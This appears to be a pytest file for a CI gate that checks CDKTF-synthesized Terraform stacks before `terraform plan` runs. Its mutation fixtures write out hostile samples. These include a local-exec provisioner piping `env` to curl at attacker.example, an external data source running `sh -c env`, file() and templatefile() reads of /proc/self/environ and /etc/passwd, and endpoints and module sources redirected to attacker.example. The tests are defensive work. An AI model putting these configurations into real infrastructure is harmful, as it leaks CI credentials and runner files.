"""The plan gate (.ci/plan_gate.py): every shipped stack passes; each way a pull request could
make `terraform plan` run its own code, read the runner's files or send credentials elsewhere is
refused, with a message that names the file and the place."""

from __future__ import annotations

import copy
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import ROOT

GATE = ROOT / ".ci" / "plan_gate.py"
BUCKET = "acme-litellm-terraform-state"


def run_gate(outdir: Path, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(GATE), str(outdir), *extra], capture_output=True, text=True,
                          timeout=60)


def test_every_synthesized_stack_passes(synth_dir, tmp_path):
    outdir = tmp_path / "cdktf.out"
    shutil.copytree(synth_dir / "stacks", outdir / "stacks")
    for stack in (outdir / "stacks").iterdir():  # as the workflows leave them: lock file beside each stack
        shutil.copy(ROOT / "stacks" / "terraform.lock.hcl", stack / ".terraform.lock.hcl")
    result = run_gate(outdir, "--state-bucket", BUCKET)
    assert result.returncode == 0, result.stderr
    assert f"{len(list((outdir / 'stacks').iterdir()))} stacks pass" in result.stdout


def _set(path: list, value):
    def change(stack: dict) -> None:
        target = stack
        for key in path[:-1]:
            target = target.setdefault(key, {})
        target[path[-1]] = value
    return change


def _provision(stack: dict) -> None:
    group = next(iter(stack["resource"]["aws_ecs_cluster"].values()))
    group["provisioner"] = [{"local-exec": {"command": "env | curl -d @- https://attacker.example"}}]


MUTATIONS = {
    "external data source": (_set(["data", "external", "x"], {"program": ["sh", "-c", "env"]}),
                             "data.external: not in the allowlist"),
    "http data source": (_set(["data", "http", "x"], {"url": "https://attacker.example"}),
                         "data.http: not in the allowlist"),
    "local_file data source": (_set(["data", "local_file", "x"], {"filename": "/proc/self/environ"}),
                               "data.local_file: not in the allowlist"),
    "provisioner": (_provision, "provisioner blocks are not allowed"),
    "another provider": (_set(["terraform", "required_providers", "null"], {"source": "hashicorp/null"}),
                         "'hashicorp/null' is not hashicorp/aws"),
    "a look-alike aws provider": (_set(["terraform", "required_providers", "aws"], {"source": "evil/aws"}),
                                  "'evil/aws' is not hashicorp/aws"),
    "a null resource": (_set(["resource", "null_resource", "x"], {}), "only aws_* and random_* resources"),
    "a module": (_set(["module", "x"], {"source": "git::https://attacker.example/m"}),
                 "top-level block 'module' is not allowed"),
    "provider endpoints": (lambda s: s["provider"]["aws"][0].update(endpoints=[{"sts": "https://attacker.example"}]),
                           "provider.aws.endpoints: not allowed"),
    "provider assume_role": (lambda s: s["provider"]["aws"][0].update(assume_role=[{"role_arn": "arn:x"}]),
                             "provider.aws.assume_role: not allowed"),
    "backend endpoint": (lambda s: s["terraform"]["backend"]["s3"].update(endpoint="https://attacker.example"),
                         "terraform.backend.s3.endpoint: not allowed"),
    "another state bucket": (lambda s: s["terraform"]["backend"]["s3"].update(bucket="someone-elses"),
                             "is not the project's state bucket"),
    "file() in an output": (_set(["output", "leak"], {"value": "${file(\"/proc/self/environ\")}"}),
                            "file() reads files of the runner"),
    "templatefile() in locals": (_set(["locals"], {"x": "${templatefile(\"/etc/passwd\", {})}"}),
                                 "templatefile() reads files of the runner"),
    "an ephemeral resource of another kind": (_set(["ephemeral", "aws_lambda_invocation", "x"], {}),
                                              "ephemeral.aws_lambda_invocation: not in the allowlist"),
    "http data inside a check block": (_set(["check", "c"], {"data": {"http": {"x": {"url": "https://a.example"}}}}),
                                       "check.c.data.http: not in the allowlist"),
}


@pytest.mark.parametrize("label", list(MUTATIONS))
def test_gate_refuses(label, stacks, tmp_path):
    mutate, message = MUTATIONS[label]
    stack = copy.deepcopy(stacks["dev"])
    mutate(stack)
    directory = tmp_path / "cdktf.out" / "stacks" / "dev"
    directory.mkdir(parents=True)
    (directory / "cdk.tf.json").write_text(json.dumps(stack))
    result = run_gate(tmp_path / "cdktf.out", "--state-bucket", BUCKET)
    assert result.returncode == 1
    assert message in result.stderr and "stacks/dev/cdk.tf.json" in result.stderr, result.stderr


@pytest.mark.parametrize("extra", ["extra.tf", "override.tf.json", "sub/cdk.tf.json", "link"])
def test_gate_refuses_anything_else_in_a_stack_directory(extra, stacks, tmp_path):
    directory = tmp_path / "cdktf.out" / "stacks" / "dev"
    directory.mkdir(parents=True)
    (directory / "cdk.tf.json").write_text(json.dumps(stacks["dev"]))
    target = directory / extra
    if extra == "link":
        target.symlink_to("/etc/passwd")
    else:
        target.parent.mkdir(exist_ok=True)
        target.write_text('data "external" "x" { program = ["env"] }')
    result = run_gate(tmp_path / "cdktf.out")
    assert result.returncode == 1 and f"stacks/dev/{extra.split('/')[0]}" in result.stderr, result.stderr
